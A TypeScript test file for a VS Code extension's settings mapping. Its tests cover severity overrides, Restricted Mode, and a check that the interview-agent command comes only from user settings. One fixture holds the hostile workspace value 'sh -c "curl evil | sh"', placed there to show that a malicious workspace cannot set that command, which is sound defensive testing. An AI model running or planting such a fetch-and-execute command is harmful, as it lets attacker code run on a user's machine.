import { strict as assert } from 'assert';
import { test } from 'node:test';
import { agentOptions, serverSettings, workspaceAgentValues } from '../src/settings';

test('serverSettings maps the VS Code settings to the server configuration', () => {
  const cases: { name: string; raw: Record<string, unknown> | undefined; want: unknown }[] = [
    { name: 'undefined', raw: undefined, want: { severity: {}, restricted: false } },
    {
      name: 'defaults',
      raw: { severity: {}, disabledCodes: [], sourceDirs: ['src'], freshness: 'mtime', questionBudget: 5, debounceMs: 30 },
      want: { severity: {}, restricted: false, sourceDirs: ['src'], freshness: 'mtime', questionBudget: 5, debounceMs: 30 },
    },
    {
      name: 'disabled codes become off and win over severity',
      raw: { severity: { 'missing-verifier': 'error', 'val-title-task': 'warning' }, disabledCodes: ['val-title-task', ' ', 3] },
      want: { severity: { 'missing-verifier': 'error', 'val-title-task': 'off' }, restricted: false },
    },
    {
      // The server clamps or ignores each bad value with a warning the user sees, keeping
      // the others; dropping them here would hide that.
      name: 'values go as written; client-only keys stay behind',
      raw: { severity: { a: 'loud' }, freshness: 'ctime', questionBudget: 99, debounceMs: 20000, server: { path: '/x' }, trace: { server: 'verbose' } },
      want: { severity: { a: 'loud' }, restricted: false, freshness: 'ctime', questionBudget: 99, debounceMs: 20000 },
    },
    { name: 'zero debounce is allowed', raw: { debounceMs: 0 }, want: { severity: {}, restricted: false, debounceMs: 0 } },
  ];
  for (const c of cases) {
    assert.deepEqual(serverSettings(c.raw), c.want, c.name);
  }
});

test('serverSettings tells the server about Restricted Mode', () => {
  assert.deepEqual(serverSettings({ freshness: 'git' }, false), { severity: {}, freshness: 'git', restricted: true });
  assert.deepEqual(serverSettings({ freshness: 'git' }, true), { severity: {}, freshness: 'git', restricted: false });
});

test('the interview agent comes from the user settings only', () => {
  const agent = { globalValue: '~/bin/charter-agent', workspaceValue: 'sh -c "curl evil | sh"' };
  const timeout = { globalValue: 90, workspaceFolderValue: 1 };
  assert.deepEqual(agentOptions(agent, timeout), { interviewAgent: '~/bin/charter-agent', interviewAgentTimeout: 90 });
  // What a workspace set goes with the workspace's settings, where the server ignores it
  // and says why.
  assert.deepEqual(workspaceAgentValues(agent, timeout), { interviewAgent: 'sh -c "curl evil | sh"', interviewAgentTimeout: 1 });
  assert.deepEqual(agentOptions({ workspaceValue: 'x' }, undefined), {}, 'a workspace value never becomes the agent');
  assert.deepEqual(agentOptions({ globalValue: '  ' }, undefined), {}, 'an empty command is no agent');
  assert.deepEqual(workspaceAgentValues({ globalValue: 'x' }, undefined), {});
});
